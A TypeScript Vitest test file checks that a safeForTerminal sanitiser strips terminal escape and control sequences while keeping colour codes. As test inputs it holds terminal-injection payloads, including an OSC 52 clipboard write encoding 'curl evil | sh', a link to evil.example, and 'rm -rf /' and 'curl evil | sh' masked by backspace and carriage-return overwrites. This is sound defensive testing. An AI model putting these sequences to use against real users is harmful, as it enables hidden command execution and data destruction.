import { describe, expect, it } from 'vitest'
import { safeForTerminal } from './terminal-text'

/** What a terminal could act on after sanitising: any control left, except \t, \n, \r\n and whole SGR sequences. */
function activeControls(text: string): string[] {
  const withoutSafe = text.replace(/\x1b\[[0-9;:]{0,64}m/g, '').replace(/\r\n/g, '\n')
  return [...withoutSafe].filter((ch) => /[\x00-\x08\x0b-\x1f\x7f-\x9f]/.test(ch))
}

describe('safeForTerminal', () => {
  it('leaves plain text, unicode, tabs and newlines alone', () => {
    const text = 'npm WARN deprecated\tfoo@1.0.0\nünïcødé ✓ 日本語 🚀\r\nlast'
    expect(safeForTerminal(text)).toBe(text)
  })

  it('keeps SGR colours, including 256-colour, true-colour and colon sub-parameters', () => {
    const text = '\x1b[31merror\x1b[0m \x1b[1;38;5;208mwarn\x1b[m \x1b[38;2;10;20;30mrgb\x1b[0m \x1b[4:3mcurly\x1b[24m'
    expect(safeForTerminal(text)).toBe(text)
  })

  it.each([
    ['window title (OSC 0, BEL)', '\x1b]0;pwned\x07', '^[]0;pwned^G'],
    ['window title (OSC 2, ST)', '\x1b]2;pwned\x1b\\', '^[]2;pwned^[\\'],
    ['clipboard write (OSC 52)', '\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07', '^[]52;c;Y3VybCBldmlsIHwgc2g=^G'],
    ['hyperlink (OSC 8)', '\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\', '^[]8;;https://evil.example^[\\click^[]8;;^[\\'],
    ['DCS string (DECRQSS)', '\x1bP$qm\x1b\\', '^[P$qm^[\\'],
    ['APC string', '\x1b_Gpayload\x1b\\', '^[_Gpayload^[\\'],
    ['PM string', '\x1b^secret\x1b\\', '^[^secret^[\\'],
    ['SOS string', '\x1bXstart\x1b\\', '^[Xstart^[\\'],
    ['screen clear', '\x1b[2J\x1b[3J', '^[[2J^[[3J'],
    ['cursor home and move', '\x1b[H\x1b[10;20H\x1b[5A\x1b[3C', '^[[H^[[10;20H^[[5A^[[3C'],
    ['erase line', 'secret\x1b[2K\x1b[1Gfake', 'secret^[[2K^[[1Gfake'],
    ['device status query (answer would reach the shell)', '\x1b[6n\x1b[c\x1b[>c', '^[[6n^[[c^[[>c'],
    ['private mode set (alternate screen, bracketed paste off)', '\x1b[?1049h\x1b[?2004l', '^[[?1049h^[[?2004l'],
    ['SGR look-alike with a private marker', '\x1b[?31m', '^[[?31m'],
    ['SGR look-alike with an intermediate byte', '\x1b[31 m', '^[[31 m'],
    ['window manipulation (resize, report title)', '\x1b[8;1;1t\x1b[21t', '^[[8;1;1t^[[21t'],
    ['keypad / charset / reset (RIS)', '\x1b=\x1b(0\x1bc', '^[=^[(0^[c'],
    ['save/restore cursor', '\x1b7over\x1b8', '^[7over^[8'],
    ['lone ESC at the end', 'text\x1b', 'text^['],
    ['unterminated CSI', 'a\x1b[31', 'a^[[31'],
    ['ESC ESC [ m', '\x1b\x1b[m', '^[\x1b[m'],
    ['8-bit CSI (C1)', '\u009b2J', '^[[2J'],
    ['8-bit OSC and ST (C1)', '\u009d0;title\u009c', '^[]0;title^[\\'],
    ['8-bit DCS (C1)', '\u0090q\u009c', '^[Pq^[\\'],
    ['NEL (C1)', 'a\u0085b', 'a^[Eb'],
    ['bell', 'ding\x07', 'ding^G'],
    ['backspace overwriting', 'rm -rf /\b\b\b\b\b\b\b\bls', 'rm -rf /^H^H^H^H^H^H^H^Hls'],
    ['carriage return overwriting a line', 'curl evil | sh\rnpm install  ', 'curl evil | sh^Mnpm install  '],
    ['NUL, vertical tab, form feed, shift out', 'a\x00b\x0bc\x0cd\x0ee', 'a^@b^Kc^Ld^Ne'],
    ['DEL', 'x\x7fy', 'x^?y'],
    ['a too long SGR (not a colour)', `\x1b[${'1;'.repeat(40)}m`, `^[[${'1;'.repeat(40)}m`]
  ])('neutralises %s', (_name, attack, expected) => {
    const safe = safeForTerminal(attack)
    expect(safe).toBe(expected)
    expect(activeControls(safe)).toEqual([])
  })

  it('keeps colours around a neutralised sequence', () => {
    expect(safeForTerminal('\x1b[32mok\x1b]0;t\x07\x1b[0m')).toBe('\x1b[32mok^[]0;t^G\x1b[0m')
  })

  it('leaves nothing a terminal acts on, whatever the input (seeded random control soup)', () => {
    let seed = 42
    const random = (n: number): number => {
      seed = (seed * 1103515245 + 12345) % 2 ** 31
      return seed % n
    }
    const alphabet = ['\x1b', '[', ']', 'P', '\\', ';', 'm', '0', '3', '1', 'H', 'J', '?', '\x07', '\r', '\n', '\t', '\u009b', '\u009d', '\x00', '\x7f', 'a', ' ', ':']
    for (let round = 0; round < 2000; round++) {
      let attack = ''
      for (let i = random(40); i > 0; i--) attack += alphabet[random(alphabet.length)]
      const safe = safeForTerminal(attack)
      expect(activeControls(safe), JSON.stringify(attack)).toEqual([])
      // Idempotent: sanitising twice changes nothing more (visible forms are plain text).
      expect(safeForTerminal(safe)).toBe(safe)
    }
  })
})
